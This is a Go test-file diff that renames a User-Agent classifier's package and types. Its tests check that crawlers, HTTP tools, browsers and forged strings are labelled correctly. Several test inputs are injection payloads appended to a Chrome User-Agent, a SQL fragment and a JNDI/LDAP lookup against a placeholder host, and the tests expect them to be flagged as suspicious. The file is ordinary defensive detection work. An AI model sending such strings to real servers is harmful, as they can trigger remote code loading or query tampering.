@@ -1,4 +1,4 @@
-package detect
+package agents
 
 import (
 	"encoding/json"
@@ -37,11 +37,11 @@ func loadLabelledAgents(t testing.TB) (bots, browsers []string) {
 // that loses detection or flags people fails here.
 func TestAgentCorpusRates(t *testing.T) {
 	bots, browsers := loadLabelledAgents(t)
-	var c AgentClassifier
+	var c Classifier
 	flagged := func(list []string, want bool) (n int, odd []string) {
 		for _, ua := range list {
 			a := c.Classify(ua)
-			if (a.Kind != AgentBrowser) == want {
+			if (a.Kind != Browser) == want {
 				n++
 			} else {
 				odd = append(odd, a.Kind.String()+" "+a.Name+" "+a.Reason+" | "+ua)
@@ -76,113 +76,113 @@ func TestClassifyAgent(t *testing.T) {
 	const chromeWin = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
 	tests := []struct {
 		ua   string
-		kind AgentKind
+		kind Kind
 		name string
 	}{
 		// Empty.
-		{"", AgentEmpty, "(empty)"},
-		{"-", AgentEmpty, "(empty)"},
-		{"   ", AgentEmpty, "(empty)"},
+		{"", Empty, "(empty)"},
+		{"-", Empty, "(empty)"},
+		{"   ", Empty, "(empty)"},
 
 		// Declared crawlers, as their vendors document them.
-		{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", AgentCrawler, "Googlebot"},
-		{"Googlebot/2.1 (+http://www.google.com/bot.html)", AgentCrawler, "Googlebot"},
-		{"Googlebot-Image/1.0", AgentCrawler, "Googlebot-Image"},
-		{"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.6533.119 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", AgentCrawler, "Googlebot"},
-		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", AgentCrawler, "bingbot"},
-		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", AgentCrawler, "Applebot"},
-		{"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", AgentCrawler, "facebookexternalhit"},
-		{"Twitterbot/1.0", AgentCrawler, "Twitterbot"},
-		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", AgentCrawler, "GPTBot"},
-		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", AgentCrawler, "ClaudeBot"},
-		{"CCBot/2.0 (https://commoncrawl.org/faq/)", AgentCrawler, "CCBot"},
-		{"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", AgentCrawler, "YandexBot"},
-		{"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", AgentCrawler, "Baiduspider"},
-		{"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", AgentCrawler, "AhrefsBot"},
-		{"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", AgentCrawler, "SemrushBot"},
-		{"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", AgentCrawler, "Slackbot-LinkExpanding"},
+		{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", Crawler, "Googlebot"},
+		{"Googlebot/2.1 (+http://www.google.com/bot.html)", Crawler, "Googlebot"},
+		{"Googlebot-Image/1.0", Crawler, "Googlebot-Image"},
+		{"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.6533.119 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", Crawler, "Googlebot"},
+		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", Crawler, "bingbot"},
+		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", Crawler, "Applebot"},
+		{"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", Crawler, "facebookexternalhit"},
+		{"Twitterbot/1.0", Crawler, "Twitterbot"},
+		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", Crawler, "GPTBot"},
+		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", Crawler, "ClaudeBot"},
+		{"CCBot/2.0 (https://commoncrawl.org/faq/)", Crawler, "CCBot"},
+		{"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", Crawler, "YandexBot"},
+		{"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", Crawler, "Baiduspider"},
+		{"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", Crawler, "AhrefsBot"},
+		{"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", Crawler, "SemrushBot"},
+		{"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", Crawler, "Slackbot-LinkExpanding"},
 		// Generic rules: a role word in the product name, a contact URL or address.
-		{"Mozilla/5.0 (compatible; ExamploCrawler/1.0)", AgentCrawler, "ExamploCrawler"},
-		{"examplo-spider/0.3", AgentCrawler, "examplo-spider"},
-		{"Superfeedr bot/2.0 http://superfeedr.com", AgentCrawler, "Superfeedr bot"},
-		{"Mozilla/5.0 (compatible; Examplo/2.1; +https://examplo.example/info)", AgentCrawler, "Examplo"},
-		{"Examplo/1.0 (admin@examplo.example)", AgentCrawler, "Examplo"},
-		{"Examplo/1.0 (+examplo.example)", AgentCrawler, "Examplo"},
-		{"Examplo Link Checker 2.1 (+http://examplo.example/)", AgentCrawler, "Examplo Link Checker"},
-		{"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; http://www.examplo.example)", AgentCrawler, "examplo.example"},
+		{"Mozilla/5.0 (compatible; ExamploCrawler/1.0)", Crawler, "ExamploCrawler"},
+		{"examplo-spider/0.3", Crawler, "examplo-spider"},
+		{"Superfeedr bot/2.0 http://superfeedr.com", Crawler, "Superfeedr bot"},
+		{"Mozilla/5.0 (compatible; Examplo/2.1; +https://examplo.example/info)", Crawler, "Examplo"},
+		{"Examplo/1.0 (admin@examplo.example)", Crawler, "Examplo"},
+		{"Examplo/1.0 (+examplo.example)", Crawler, "Examplo"},
+		{"Examplo Link Checker 2.1 (+http://examplo.example/)", Crawler, "Examplo Link Checker"},
+		{"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; http://www.examplo.example)", Crawler, "examplo.example"},
 
 		// Tools and libraries, with their default User-agents.
-		{"curl/8.4.0", AgentTool, "curl"},
-		{"  curl/8.4.0\t", AgentTool, "curl"},
-		{"Wget/1.21.4", AgentTool, "Wget"},
-		{"Wget/1.21 (linux-gnu)", AgentTool, "Wget"},
-		{"python-requests/2.31.0", AgentTool, "python-requests"},
-		{"Python-urllib/3.11", AgentTool, "Python-urllib"},
-		{"Python/3.11 aiohttp/3.9.1", AgentTool, "aiohttp"},
-		{"python-httpx/0.25.2", AgentTool, "python-httpx"},
-		{"Go-http-client/1.1", AgentTool, "Go-http-client"},
-		{"go-http-client/2.0", AgentTool, "Go-http-client"},
-		{"Java/17.0.2", AgentTool, "Java"},
-		{"Apache-HttpClient/4.5.14 (Java/17.0.8)", AgentTool, "Apache-HttpClient"},
-		{"okhttp/4.9.3", AgentTool, "okhttp"},
-		{"libwww-perl/6.72", AgentTool, "libwww-perl"},
-		{"Scrapy/2.11.0 (+https://scrapy.org)", AgentTool, "Scrapy"},
-		{"node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", AgentTool, "node-fetch"},
-		{"axios/1.6.2", AgentTool, "axios"},
-		{"PostmanRuntime/7.36.0", AgentTool, "PostmanRuntime"},
-		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.109 Safari/537.36", AgentTool, "HeadlessChrome"},
-		{"Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1", AgentTool, "PhantomJS"},
-		{"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", AgentTool, "Nmap"},
-		{"masscan/1.3 (https://github.com/robertdavidgraham/masscan)", AgentTool, "masscan"},
-		{"Mozilla/5.0 zgrab/0.x", AgentTool, "zgrab"},
-		{"lua-resty-http/0.17 (Lua) ngx_lua/10025", AgentTool, "lua-resty-http"},
+		{"curl/8.4.0", Tool, "curl"},
+		{"  curl/8.4.0\t", Tool, "curl"},
+		{"Wget/1.21.4", Tool, "Wget"},
+		{"Wget/1.21 (linux-gnu)", Tool, "Wget"},
+		{"python-requests/2.31.0", Tool, "python-requests"},
+		{"Python-urllib/3.11", Tool, "Python-urllib"},
+		{"Python/3.11 aiohttp/3.9.1", Tool, "aiohttp"},
+		{"python-httpx/0.25.2", Tool, "python-httpx"},
+		{"Go-http-client/1.1", Tool, "Go-http-client"},
+		{"go-http-client/2.0", Tool, "Go-http-client"},
+		{"Java/17.0.2", Tool, "Java"},
+		{"Apache-HttpClient/4.5.14 (Java/17.0.8)", Tool, "Apache-HttpClient"},
+		{"okhttp/4.9.3", Tool, "okhttp"},
+		{"libwww-perl/6.72", Tool, "libwww-perl"},
+		{"Scrapy/2.11.0 (+https://scrapy.org)", Tool, "Scrapy"},
+		{"node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", Tool, "node-fetch"},
+		{"axios/1.6.2", Tool, "axios"},
+		{"PostmanRuntime/7.36.0", Tool, "PostmanRuntime"},
+		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.109 Safari/537.36", Tool, "HeadlessChrome"},
+		{"Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1", Tool, "PhantomJS"},
+		{"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", Tool, "Nmap"},
+		{"masscan/1.3 (https://github.com/robertdavidgraham/masscan)", Tool, "masscan"},
+		{"Mozilla/5.0 zgrab/0.x", Tool, "zgrab"},
+		{"lua-resty-http/0.17 (Lua) ngx_lua/10025", Tool, "lua-resty-http"},
 
 		// Browsers, named by family.
-		{chromeWin, AgentBrowser, "Chrome"},
-		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0", AgentBrowser, "Firefox"},
-		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15", AgentBrowser, "Safari"},
-		{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1", AgentBrowser, "Safari"},
-		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0", AgentBrowser, "Edge"},
-		{"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", AgentBrowser, "Chrome"},
-		{"Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36", AgentBrowser, "Samsung Internet"},
-		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 OPR/106.0.0.0", AgentBrowser, "Opera"},
-		{"Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", AgentBrowser, "IE"},
+		{chromeWin, Browser, "Chrome"},
+		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0", Browser, "Firefox"},
+		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15", Browser, "Safari"},
+		{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1", Browser, "Safari"},
+		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0", Browser, "Edge"},
+		{"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", Browser, "Chrome"},
+		{"Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36", Browser, "Samsung Internet"},
+		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 OPR/106.0.0.0", Browser, "Opera"},
+		{"Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", Browser, "IE"},
 		// Old is not impossible: the log may be old, and so may the machine.
-		{"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)", AgentBrowser, "IE"},
-		{"Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36", AgentBrowser, "Chrome"},
+		{"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)", Browser, "IE"},
+		{"Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36", Browser, "Chrome"},
 		// Browsers and apps that only uap-go knows.
-		{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/444.0.0.37.108;FBBV/551265395;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.1.2;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]", AgentBrowser, "Facebook"},
-		{"Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.8", AgentBrowser, "Lynx"},
-		{"Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)", AgentBrowser, "Android"},
-		{"Weather/1.2 CFNetwork/1410.0.3 Darwin/22.6.0", AgentBrowser, "Weather"},
+		{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/444.0.0.37.108;FBBV/551265395;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.1.2;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]", Browser, "Facebook"},
+		{"Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.8", Browser, "Lynx"},
+		{"Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)", Browser, "Android"},
+		{"Weather/1.2 CFNetwork/1410.0.3 Darwin/22.6.0", Browser, "Weather"},
 
 		// Browser strings that cannot be real.
-		{"Mozilla/5.0 (Windows NT 11.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", AgentSuspicious, "Chrome"},
-		{"Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", AgentSuspicious, "Chrome"},
-		{"Mozilla/5.0 (Windows NT 5.1; rv:115.0) Gecko/20100101 Firefox/115.0", AgentSuspicious, "Firefox"},
-		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_8_5) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36", AgentSuspicious, "Chrome"},
-		{"Mozilla/5.0 (compatible; MSIE 12.0; Windows NT 10.0; Trident/8.0)", AgentSuspicious, "IE"},
-		{"Mozilla/5.0 (Linux; Android 12; Pixel 6) (compatible; MSIE 10.0; Trident/6.0)", AgentSuspicious, "IE"},
-		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64)", AgentSuspicious, "Mozilla"},
-		{"Anonymous, " + chromeWin, AgentSuspicious, "Chrome"},
-		{chromeWin + "'+(select 1)+'", AgentSuspicious, "Chrome"},
-		{chromeWin + " ${jndi:ldap://x.example/a}", AgentSuspicious, "Chrome"},
-		{chromeWin + strings.Repeat(" A", 5*1024), AgentSuspicious, "Chrome"},
-		{chromeWin + "\x1b[31m", AgentSuspicious, "Chrome"},
+		{"Mozilla/5.0 (Windows NT 11.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", Suspicious, "Chrome"},
+		{"Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", Suspicious, "Chrome"},
+		{"Mozilla/5.0 (Windows NT 5.1; rv:115.0) Gecko/20100101 Firefox/115.0", Suspicious, "Firefox"},
+		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_8_5) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36", Suspicious, "Chrome"},
+		{"Mozilla/5.0 (compatible; MSIE 12.0; Windows NT 10.0; Trident/8.0)", Suspicious, "IE"},
+		{"Mozilla/5.0 (Linux; Android 12; Pixel 6) (compatible; MSIE 10.0; Trident/6.0)", Suspicious, "IE"},
+		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64)", Suspicious, "Mozilla"},
+		{"Anonymous, " + chromeWin, Suspicious, "Chrome"},
+		{chromeWin + "'+(select 1)+'", Suspicious, "Chrome"},
+		{chromeWin + " ${jndi:ldap://x.example/a}", Suspicious, "Chrome"},
+		{chromeWin + strings.Repeat(" A", 5*1024), Suspicious, "Chrome"},
+		{chromeWin + "\x1b[31m", Suspicious, "Chrome"},
 
 		// Not a browser at all.
-		{"Hello World", AgentUnknown, "Hello World"},
-		{"123", AgentUnknown, "123"},
-		{"\xff\xfe\x00\x01garbage", AgentUnknown, "garbage"},
-		{"FooClient/1.0", AgentUnknown, "FooClient"},
+		{"Hello World", Unknown, "Hello World"},
+		{"123", Unknown, "123"},
+		{"\xff\xfe\x00\x01garbage", Unknown, "garbage"},
+		{"FooClient/1.0", Unknown, "FooClient"},
 	}
-	var c AgentClassifier
+	var c Classifier
 	for _, tt := range tests {
 		got := c.Classify(tt.ua)
 		if got.Kind != tt.kind || got.Name != tt.name {
 			t.Errorf("Classify(%.120q) = %v %q (%s), want %v %q", tt.ua, got.Kind, got.Name, got.Reason, tt.kind, tt.name)
 		}
-		if (got.Reason == "") != (got.Kind == AgentBrowser) {
+		if (got.Reason == "") != (got.Kind == Browser) {
 			t.Errorf("Classify(%.120q): kind %v with reason %q; only browsers have none", tt.ua, got.Kind, got.Reason)
 		}
 	}
@@ -192,7 +192,7 @@ func TestClassifyAgent(t *testing.T) {
 // that the cache stays bounded however many distinct values an attacker sends.
 func TestAgentCache(t *testing.T) {
 	const ua = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
-	var c AgentClassifier
+	var c Classifier
 	want := c.Classify(ua)
 	if got := c.ClassifyBytes([]byte(ua)); got != want {
 		t.Errorf("ClassifyBytes = %+v, Classify = %+v", got, want)
@@ -205,17 +205,17 @@ func TestAgentCache(t *testing.T) {
 		t.Errorf("Classify on a cached User-agent: %v allocations, want 0", n)
 	}
 
-	// Values longer than MaxAgentLen share one entry per prefix, and the
-	// entry's key is at most MaxAgentLen+1 bytes.
+	// Values longer than MaxLen share one entry per prefix, and the
+	// entry's key is at most MaxLen+1 bytes.
 	long := strings.Repeat("x", 10*1024)
 	a1 := c.Classify("curl/8.4.0 " + long)
 	a2 := c.Classify("curl/8.4.0 " + long + "y")
-	if a1 != a2 || a1.Kind != AgentTool {
+	if a1 != a2 || a1.Kind != Tool {
 		t.Errorf("long curl User-agents: %+v and %+v, want the same tool", a1, a2)
 	}
 	for k := range c.cache {
-		if len(k) > MaxAgentLen+1 {
-			t.Errorf("cache key of %d bytes, want at most %d", len(k), MaxAgentLen+1)
+		if len(k) > MaxLen+1 {
+			t.Errorf("cache key of %d bytes, want at most %d", len(k), MaxLen+1)
 		}
 	}
 
@@ -233,13 +233,13 @@ func TestAgentCache(t *testing.T) {
 // TestAgentParserBudget checks that a flood of distinct strings only uap-go
 // could place stops costing uap-go time once the budget is spent.
 func TestAgentParserBudget(t *testing.T) {
-	c := AgentClassifier{parserBytes: MaxParserBytes}
+	c := Classifier{parserBytes: MaxParserBytes}
 	a := c.Classify("Weather/1.2 CFNetwork/1410.0.3 Darwin/22.6.0")
-	if a.Kind != AgentBrowser {
+	if a.Kind != Browser {
 		t.Errorf("app User-agent past the budget: %+v, want a browser by its platform", a)
 	}
 	a = c.Classify("zzqx")
-	if a.Kind != AgentUnknown || !strings.Contains(a.Reason, "budget") {
+	if a.Kind != Unknown || !strings.Contains(a.Reason, "budget") {
 		t.Errorf("garbage past the budget: %+v, want unknown, reason naming the budget", a)
 	}
 	if c.parserBytes != MaxParserBytes {
@@ -247,8 +247,8 @@ func TestAgentParserBudget(t *testing.T) {
 	}
 	// A flood of junk spends the budget and no more (the run starts near the
 	// end of the budget: spending all of it takes about 3 s, by design).
-	f := AgentClassifier{parserBytes: MaxParserBytes - 5*maxParserInput}
-	junk := strings.Repeat("ab cd/1.0 ", MaxAgentLen/10)
+	f := Classifier{parserBytes: MaxParserBytes - 5*maxParserInput}
+	junk := strings.Repeat("ab cd/1.0 ", MaxLen/10)
 	for i := 0; f.parserBytes < MaxParserBytes; i++ {
 		if i > 5 {
 			t.Fatalf("%d junk User-agents and the budget (%d of %d bytes) is not spent", i, f.parserBytes, MaxParserBytes)
@@ -256,7 +256,7 @@ func TestAgentParserBudget(t *testing.T) {
 		f.Classify(strconv.Itoa(i) + junk)
 	}
 	// Common browsers never need uap-go.
-	var d AgentClassifier
+	var d Classifier
 	d.Classify("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36")
 	d.Classify("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0")
 	if d.parserBytes != 0 {
@@ -275,7 +275,7 @@ func TestAgentNameIsPrintable(t *testing.T) {
 		"Mozilla/5.0 (compatible; \x1b[31mRed\x1b[0m; +http://x.example)",
 		strings.Repeat("\x1b", 2000),
 	} {
-		var c AgentClassifier
+		var c Classifier
 		a := c.Classify(ua)
 		if a.Name == "" || len(a.Name) > maxNameLen {
 			t.Errorf("Classify(%q).Name = %q: want 1 to %d bytes", ua, a.Name, maxNameLen)
@@ -289,11 +289,11 @@ func TestAgentNameIsPrintable(t *testing.T) {
 	}
 }
 
-func TestAgentKindString(t *testing.T) {
-	for k, want := range map[AgentKind]string{AgentBrowser: "browser", AgentUnknown: "unknown", AgentSuspicious: "suspicious",
-		AgentEmpty: "empty", AgentTool: "tool", AgentCrawler: "crawler", 42: "kind(42)"} {
+func TestKindString(t *testing.T) {
+	for k, want := range map[Kind]string{Browser: "browser", Unknown: "unknown", Suspicious: "suspicious",
+		Empty: "empty", Tool: "tool", Crawler: "crawler", 42: "kind(42)"} {
 		if got := k.String(); got != want {
-			t.Errorf("AgentKind(%d).String() = %q, want %q", k, got, want)
+			t.Errorf("Kind(%d).String() = %q, want %q", k, got, want)
 		}
 	}
 }
@@ -301,7 +301,7 @@ func TestAgentKindString(t *testing.T) {
 // BenchmarkClassifyHit is the cost per log line: a cache hit.
 func BenchmarkClassifyHit(b *testing.B) {
 	const ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
-	var c AgentClassifier
+	var c Classifier
 	c.Classify(ua)
 	b.ReportAllocs()
 	for b.Loop() {
@@ -312,7 +312,7 @@ func BenchmarkClassifyHit(b *testing.B) {
 // BenchmarkClassifyHitBytes is a cache hit from a read buffer.
 func BenchmarkClassifyHitBytes(b *testing.B) {
 	ua := []byte("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36")
-	var c AgentClassifier
+	var c Classifier
 	c.ClassifyBytes(ua)
 	b.ReportAllocs()
 	for b.Loop() {
@@ -335,10 +335,10 @@ func benchmarkCold(b *testing.B, ua string, wantParser bool) {
 	uapParser() // built once per process; BenchmarkUAParserBuild measures it
 	b.ReportAllocs()
 	i := 0
-	var c AgentClassifier
+	var c Classifier
 	for b.Loop() {
 		if i%1024 == 0 {
-			c = AgentClassifier{} // a fresh budget
+			c = Classifier{} // a fresh budget
 		}
 		c.Classify(uas[i%len(uas)])
 		i++
@@ -379,7 +379,7 @@ func BenchmarkClassifyCorpus(b *testing.B) {
 	uapParser()
 	b.ReportAllocs()
 	for b.Loop() {
-		var c AgentClassifier
+		var c Classifier
 		for _, ua := range all {
 			c.Classify(ua)
 		}
@@ -424,12 +424,12 @@ func FuzzClassifyAgent(f *testing.F) {
 	} {
 		f.Add(s)
 	}
-	var shared AgentClassifier
+	var shared Classifier
 	f.Fuzz(func(t *testing.T, ua string) {
 		if shared.parserBytes > MaxParserBytes/2 {
-			shared = AgentClassifier{} // past its uap-go budget, answers depend on history by design
+			shared = Classifier{} // past its uap-go budget, answers depend on history by design
 		}
-		var fresh AgentClassifier
+		var fresh Classifier
 		a, b := fresh.Classify(ua), shared.Classify(ua)
 		if a != b {
 			t.Fatalf("Classify(%q): %+v from a fresh classifier, %+v from a used one", ua, a, b)
@@ -442,7 +442,7 @@ func FuzzClassifyAgent(f *testing.F) {
 				t.Fatalf("Classify(%q).Name = %q: byte %#x", ua, a.Name, c)
 			}
 		}
-		if (a.Reason == "") != (a.Kind == AgentBrowser) {
+		if (a.Reason == "") != (a.Kind == Browser) {
 			t.Fatalf("Classify(%q) = %+v: only browsers have no reason", ua, a)
 		}
 	})
